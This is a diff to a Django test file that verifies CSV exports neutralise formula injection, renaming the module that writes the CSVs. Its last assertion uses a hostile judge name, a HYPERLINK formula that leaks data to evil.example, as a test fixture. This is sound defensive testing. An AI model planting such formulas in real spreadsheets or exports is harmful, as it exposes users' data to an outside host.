@@ -1,6 +1,6 @@
 """Every CSV download opens in a spreadsheet as data, never as a formula (OWASP CSV Injection).
 
-The app serves three CSVs, the report's systems, judges and topics tables (agreement.exports), in four layouts. Each
+The app serves three CSVs, the report's systems, judges and topics tables (reports.tables and each task type's tables), in four layouts. Each
 layout's campaign gets hostile names where users choose them (a judge, systems, a topic, an annotator): every text cell
 that starts with =, +, -, @, a tab or a carriage return comes out behind a single quote, and numbers (a negative
 kappa, a system named "-0.25") stay numbers. Nothing else the app serves is a CSV or TSV: the archive is JSON lines,
@@ -14,7 +14,7 @@ from pathlib import Path
 import pytest
 from django.contrib.auth import get_user_model
 
-from agreement.exports import SpreadsheetCsv, spreadsheet_cell
+from reports.tables import SpreadsheetCsv, spreadsheet_cell
 from annotate.models import HumanJudgment, Item, Role, SystemOutput, Topic, Unit
 from annotate.services.campaigns import campaign_get_or_create
 from judges.models import Judge, ModelJudgment
@@ -139,7 +139,7 @@ def test_every_csv_is_written_by_the_one_writer():
     app = [path for folder in folders for path in folder.rglob("*.py")]
     writers = sorted(str(path.relative_to(root)) for path in app
                      if any(word in path.read_text(encoding="utf-8") for word in ("csv.writer(", "csv.DictWriter(")))
-    assert writers == ["agreement/exports.py"]
+    assert writers == ["reports/tables.py"]
     table = SpreadsheetCsv()
     table.writerow([JUDGE, -0.25])
     assert table.text() == '"\'=HYPERLINK(""http://evil.example/?leak=1"",""click"")",-0.25\n'
